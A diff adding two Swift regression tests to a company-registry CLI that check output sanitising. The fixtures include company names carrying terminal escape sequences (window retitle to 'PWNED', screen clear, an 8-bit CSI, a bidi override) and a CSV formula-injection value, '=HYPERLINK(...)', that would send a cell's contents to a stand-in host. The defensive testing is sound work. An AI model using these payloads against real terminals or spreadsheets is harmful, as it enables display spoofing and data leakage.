@@ -85,6 +85,39 @@ import RiskTestSupport
         #expect(link["current"] as? Bool == true)
     }
 
+    /// The candidate list printed registry names raw: a name's terminal escape (clear the
+    /// screen, retitle the window, an 8-bit CSI) ran on the analyst's terminal and a line
+    /// break split the list.
+    @Test func candidateNamesCannotDriveTheTerminal() throws {
+        let database = try Self.makeDatabase(); defer { database.remove() }
+        try database.database.writer.write { db in
+            try db.execute(sql: "INSERT INTO company (credit_code, name, region_code, batch_id, src_file, src_line) VALUES ('91330106000000004X', ?, '330106', 1, 'c', 3)",
+                           arguments: ["红星\u{1B}]0;PWNED\u{07}\u{1B}[2J甲\n公司"])
+            try db.execute(sql: "INSERT INTO company (credit_code, name, region_code, batch_id, src_file, src_line) VALUES ('913301060000000054', ?, '330106', 1, 'c', 4)",
+                           arguments: ["红星\u{9B}31m乙\u{202E}公司"])
+        }
+        let result = try runRiskBrain(["links", "红星", "--db", database.path])
+        #expect(result.status == 1)
+        #expect(!result.stderr.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x9B || $0.value == 0x202E || $0.value == 0x07 })
+        #expect(result.stderr.contains("红星␛]0;PWNED␇␛[2J甲␊公司\tcompany"), "\(result.stderr)")
+        #expect(result.stderr.contains("红星\u{FFFD}31m乙\u{FFFD}公司\tcompany"), "\(result.stderr)")
+        #expect(result.stderr.split(separator: "\n").count == 3)
+    }
+
+    /// The graph commands' CSV wrote a name such as `=HYPERLINK(…)` as a live formula.
+    @Test func graphCSVCellsAreSpreadsheetSafe() throws {
+        let database = try Self.makeDatabase(); defer { database.remove() }
+        try database.database.writer.write { db in
+            try db.execute(sql: "UPDATE company SET name = '=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")' WHERE credit_code = ?",
+                           arguments: [Self.holding])
+        }
+        let result = try runRiskBrain(["links", Self.network, "--db", database.path, "--format", "csv"])
+        #expect(result.status == 0)
+        #expect(result.stdout.contains("\(Self.holding),\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点我\"\")\",company,"), "\(result.stdout)")
+        let json = try runRiskBrain(["links", Self.network, "--db", database.path, "--format", "json"])
+        #expect(json.stdout.contains("\"=HYPERLINK("))   // JSON keeps the name as stored
+    }
+
     @Test func ambiguousNameListsCandidatesAndExitsOne() throws {
         let database = try Self.makeDatabase(); defer { database.remove() }
         let result = try runRiskBrain(["links", "张三", "--db", database.path])
